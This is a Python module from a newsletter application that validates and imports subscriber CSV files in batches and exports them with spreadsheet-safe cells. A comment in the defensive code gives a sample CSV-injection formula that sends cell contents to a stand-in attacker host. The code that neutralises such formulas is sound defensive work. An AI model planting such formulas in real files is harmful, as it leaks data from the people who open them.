"""CSV import and export of subscribers.

Format: a header row; columns ``email,name,organisation,region,roles`` (roles
separated by ``;``), an optional ``status`` column, and any other column kept
as a free attribute.  Every rejected row is reported as ``line N: reason``
where N is the row's first line in the file (quoted fields may span lines).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import nullcontext
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, TextIO

from sqlalchemy.orm import Session

from newsletter.errors import UserError
from newsletter.subscriber_bulk import BulkImport
from newsletter.subscribers import (
    SubscriberError,
    SubscriberInput,
    UpsertResult,
    attribute_names,
    iter_profiles,
)

PROFILE_COLUMNS = ("email", "name", "organisation", "region", "roles")
KNOWN_COLUMNS = (*PROFILE_COLUMNS, "status")
EXPORT_COLUMNS = (*PROFILE_COLUMNS, "status")
# Rows per chunk of a streamed export: a few hundred kilobytes at a time.
EXPORT_CHUNK_ROWS = 1000
# Valid rows stored per batch of a PostgreSQL import while the next batch is
# read; the first batches are smaller (5,000, then doubling) so that
# PostgreSQL starts work sooner (benchmarks/import.py, 100,000 rows: see
# docs/performance.md for the schedules tried).
IMPORT_BATCH_ROWS = 25_000
FIRST_BATCH_ROWS = 5_000


_Reader = Any  # csv.reader objects have no public type


class CsvFormatError(UserError, ValueError):
    """The file as a whole cannot be imported (no header, no email column, not text)."""


@dataclass(frozen=True)
class RejectedRow:
    """A row that was not imported, with its line number in the file."""

    line: int
    reason: str

    def __str__(self) -> str:
        return f"line {self.line}: {self.reason}"


@dataclass
class ImportReport:
    """The outcome of an import; ``stored`` is False when ``--strict`` refused it."""

    rows: int = 0
    rejected: list[RejectedRow] = field(default_factory=list)
    warnings: list[str] = field(default_factory=list)
    result: UpsertResult = field(default_factory=UpsertResult)
    stored: bool = True

    @property
    def ok(self) -> bool:
        """True when every row was good."""
        return not self.rejected


@dataclass
class _ParsedFile:
    inputs: list[SubscriberInput] = field(default_factory=list)
    lines: list[int] = field(default_factory=list)
    rejected: list[RejectedRow] = field(default_factory=list)
    rows: int = 0


def read_text(path: Path) -> str:
    """Read a CSV file as UTF-8 (a BOM is dropped); raises CsvFormatError if not text."""
    data = path.read_bytes()
    if b"\x00" in data:
        raise CsvFormatError(f"{path}: binary data, not a CSV file")
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        raise CsvFormatError(
            f"{path}: not UTF-8 (byte {exc.start}); save the file as CSV UTF-8"
        ) from exc


def parse_rows(
    text: str, *, source: str = "<csv>", progress: Callable[[int], None] | None = None
) -> _ParsedFile:
    """Validate every row; raises CsvFormatError when the header is unusable."""
    parsed = _ParsedFile()
    for _ in _batches(parsed, text, source, progress, None):
        pass
    return parsed


def _batches(
    parsed: _ParsedFile,
    text: str,
    source: str,
    progress: Callable[[int], None] | None,
    size: int | None,
) -> Iterator[list[SubscriberInput]]:
    """Read ``text`` into ``parsed`` row by row; yield its valid rows ``size`` at a time.

    The first batch is at most :data:`FIRST_BATCH_ROWS`, so that storing
    starts early, and each next one twice the last, up to ``size``.  Every
    row read so far is in ``parsed`` when a batch is yielded (its rejections
    too); ``size`` None yields all valid rows once, at the end.
    Raises CsvFormatError, before anything is yielded, when the header is
    unusable.
    """
    reader = csv.reader(io.StringIO(text, newline=""))
    try:
        header = [h.strip().lower() for h in next(reader)]
    except StopIteration:
        raise CsvFormatError(f"{source}: the file is empty (a header row is needed)") from None
    except csv.Error as exc:
        raise CsvFormatError(f"{source}: line 1: {exc}") from exc
    if "email" not in header:
        raise CsvFormatError(f"{source}: line 1: the header has no 'email' column")
    duplicates = sorted({h for h in header if header.count(h) > 1})
    if duplicates:
        raise CsvFormatError(f"{source}: line 1: repeated columns {', '.join(duplicates)}")

    layout = _Layout.of(header)
    wanted = min(size, FIRST_BATCH_ROWS) if size is not None else 0
    batch: list[SubscriberInput] = []
    first_line_of: dict[str, int] = {}
    for cells, line in _rows_with_lines(reader):
        parsed.rows += 1
        if progress is not None:
            progress(1)
        if isinstance(cells, RejectedRow):
            parsed.rejected.append(cells)
            continue
        try:
            row = _row_to_input(layout, cells)
        except SubscriberError as exc:
            parsed.rejected.append(RejectedRow(line, str(exc)))
            continue
        earlier = first_line_of.get(row.email_key)
        if earlier is not None:
            parsed.rejected.append(
                RejectedRow(line, f"email: {row.email} already appears on line {earlier}")
            )
            continue
        first_line_of[row.email_key] = line
        parsed.inputs.append(row)
        parsed.lines.append(line)
        batch.append(row)
        if size is not None and len(batch) == wanted:
            yield batch
            batch = []
            wanted = min(2 * wanted, size)
    if batch:
        yield batch


def _rows_with_lines(reader: _Reader) -> Iterator[tuple[list[str] | RejectedRow, int]]:
    """Yield each non-blank row with the number of its first line in the file.

    ``reader.line_num`` counts physical lines read so far, so a row starts on
    the line after the previous row ended (quoted fields may span lines).
    A malformed row (for example an unclosed quote) ends the reading: the
    rest of the file cannot be split into rows reliably.
    """
    while True:
        start = reader.line_num + 1
        try:
            cells = next(reader)
        except StopIteration:
            return
        except csv.Error as exc:
            yield RejectedRow(start, f"malformed CSV, reading stopped here: {exc}"), start
            return
        if "".join(cells).strip():  # not blank: some cell has more than white space
            yield cells, start


@dataclass(frozen=True)
class _Layout:
    """Where each column is in a row, worked out once from the header.

    A column the header lacks points one past the header's width, where
    :func:`_row_to_input` keeps an empty cell (as does every column a short
    row leaves out).
    """

    width: int
    email: int
    name: int
    organisation: int
    region: int
    roles: int
    status: int
    attributes: tuple[tuple[int, str], ...]  # (position, name) of the free columns

    @classmethod
    def of(cls, header: list[str]) -> _Layout:
        width = len(header)

        def where(name: str) -> int:
            return header.index(name) if name in header else width

        return cls(
            width=width,
            email=where("email"),
            name=where("name"),
            organisation=where("organisation"),
            region=where("region"),
            roles=where("roles"),
            status=where("status"),
            attributes=tuple(
                (i, name) for i, name in enumerate(header) if name and name not in KNOWN_COLUMNS
            ),
        )


def _row_to_input(layout: _Layout, cells: list[str]) -> SubscriberInput:
    if len(cells) > layout.width:
        raise SubscriberError("row", f"{len(cells)} fields but the header has {layout.width}")
    # restore() only changes a cell that starts with a quote: most never get the call.
    cells = [restore(cell) if cell[:1] == "'" else cell for cell in cells]
    cells.extend([""] * (layout.width + 1 - len(cells)))
    attributes = {name: cells[i] for i, name in layout.attributes if cells[i] != ""}
    # SubscriberInput.build checks name, organisation and region (subscribers.check_text).
    return SubscriberInput.build(
        cells[layout.email],
        name=cells[layout.name],
        organisation=cells[layout.organisation],
        region=cells[layout.region],
        roles=cells[layout.roles].split(";"),
        attributes=attributes,
        status=cells[layout.status] or None,
    )


def import_csv(
    session: Session,
    text: str,
    *,
    source: str,
    pending: bool = False,
    strict: bool = False,
    update_opted_out: bool = False,
    progress: Callable[[int], None] | None = None,
    batch_rows: int | None = IMPORT_BATCH_ROWS,
) -> ImportReport:
    """Validate and upsert the rows of a CSV text; the caller commits.

    Valid rows are stored and bad ones reported, unless ``strict``: then any
    bad row means nothing is stored.  New subscribers are ``active`` (or
    ``pending`` when ``pending``), unless the row has a status.  A row for an
    address that has opted out is skipped (its details left as they are)
    unless ``update_opted_out``; an opted-out address is never resubscribed.
    Stored with set-based statements (see :mod:`newsletter.subscriber_bulk`).

    On PostgreSQL the valid rows are stored in batches of up to
    ``batch_rows`` while the next batch is read and checked (see
    :func:`_store`), all in the caller's transaction; under ``strict`` in a
    savepoint, rolled back when a bad row turns up after rows were stored.
    On SQLite, or with ``batch_rows`` None, every row is read first.
    """
    parsed = _ParsedFile()
    postgres = session.get_bind().dialect.name == "postgresql"
    pipelined = postgres and batch_rows is not None
    batches = _batches(parsed, text, source, progress, batch_rows if pipelined else None)
    report = ImportReport()
    savepoint = session.begin_nested() if strict and pipelined else nullcontext()
    try:
        with (
            savepoint,
            BulkImport(
                session,
                default_status="pending" if pending else "active",
                consent_source=f"import:{Path(source).name}",
                update_opted_out=update_opted_out,
            ) as store,
        ):
            _store(store, batches, pipelined, refused=lambda: strict and bool(parsed.rejected))
            if strict and parsed.rejected:
                raise _RefusedError  # rolls the savepoint back
    except _RefusedError:
        report.stored = False
    report.rows, report.rejected = parsed.rows, parsed.rejected
    if not report.stored:
        return report
    report.result = store.result
    for index in report.result.skipped_opted_out:
        row = parsed.inputs[index]
        report.warnings.append(
            f"line {parsed.lines[index]}: {row.email} has opted out; row skipped and their "
            "details left as they are"
        )
    for index in report.result.kept_opted_out:
        row = parsed.inputs[index]
        report.warnings.append(
            f"line {parsed.lines[index]}: {row.email} has opted out; import does not "
            "resubscribe (status kept)"
        )
    return report


class _RefusedError(Exception):
    """A strict import found a bad row: what was stored is rolled back."""


def _store(
    store: BulkImport,
    batches: Iterator[list[SubscriberInput]],
    pipelined: bool,
    refused: Callable[[], bool],
) -> None:
    """Store each batch unless ``refused()``; if ``pipelined``, read the next one meanwhile.

    Reading and checking rows is Python work (about 1.1 s of CPU per 100,000
    rows) and storing them is mostly PostgreSQL's (about 2.2 s, in another
    process, on another core; psycopg lets go of the interpreter while it
    waits).  So a worker thread writes batch k (:meth:`BulkImport.write`, the
    long inserts) while this thread reads and prepares batch k + 1; then,
    with the worker idle, this thread stages it (:meth:`BulkImport.stage`)
    and hands it over.  The connection is used by one thread at a time, the
    handover ordered by the future.  A failure of either thread stops both
    and is raised here; the caller's rollback then undoes every batch.
    """
    if not pipelined:
        for batch in batches:
            if not refused():
                store.add(batch)
        return
    with ThreadPoolExecutor(max_workers=1, thread_name_prefix="import-store") as worker:
        stored: Future[None] | None = None
        for batch in batches:
            prepared = None if refused() else store.prepare(batch)
            if stored is not None:
                stored.result()  # raises the worker's error, if any
                stored = None
            if prepared is not None:
                # The staging COPY runs here, while the worker is idle: run
                # beside this thread's reading it took 0.14 s per 25,000 rows
                # instead of 0.04 s, waiting for the interpreter at each flush.
                stored = worker.submit(store.write, store.stage(prepared))
        if stored is not None:
            stored.result()


# Cells a spreadsheet would read as a formula (OWASP "CSV Injection"): the
# public writes names and organisations, so a cell such as
# ``=HYPERLINK("http://evil.example/?x="&A1)`` must arrive as text.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """``cell`` made inert for spreadsheets: a leading formula character gets a ``'`` before it.

    OWASP's guidance: prefix the cell with a single quote, which Excel,
    LibreOffice and Google Sheets show as text and do not evaluate.  The
    import strips that quote again (:func:`restore`), so an export imports
    back unchanged.
    """
    if cell.startswith(FORMULA_LEADS):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """Undo :func:`neutralise` for a cell read back from an exported file."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_LEADS):
        return cell[1:]
    return cell


def export_chunks(session: Session) -> Iterator[str]:
    """The export as CSV text, one chunk per page of subscribers (memory stays flat).

    Columns: the import columns plus one per attribute name found on anyone.
    """
    for chunk, _ in _export_pages(session):
        yield chunk


def export_csv(session: Session, out: TextIO) -> int:
    """Write every subscriber as CSV (the import columns plus attributes); returns the count.

    Every cell that starts like a formula is neutralised (:func:`neutralise`).
    """
    count = 0
    for chunk, rows in _export_pages(session):
        out.write(chunk)
        count += rows
    return count


def _export_pages(session: Session) -> Iterator[tuple[str, int]]:
    extra = sorted(attribute_names(session) - set(EXPORT_COLUMNS))
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([*EXPORT_COLUMNS, *extra])
    rows = 0
    for subscriber in iter_profiles(session):
        writer.writerow(
            neutralise(cell)
            for cell in [
                subscriber.email,
                subscriber.name,
                subscriber.organisation,
                subscriber.region,
                ";".join(subscriber.roles),
                subscriber.status,
                *(str(subscriber.attributes.get(name, "")) for name in extra),
            ]
        )
        rows += 1
        if rows == EXPORT_CHUNK_ROWS:
            yield buffer.getvalue(), rows
            buffer.seek(0)
            buffer.truncate()
            rows = 0
    yield buffer.getvalue(), rows
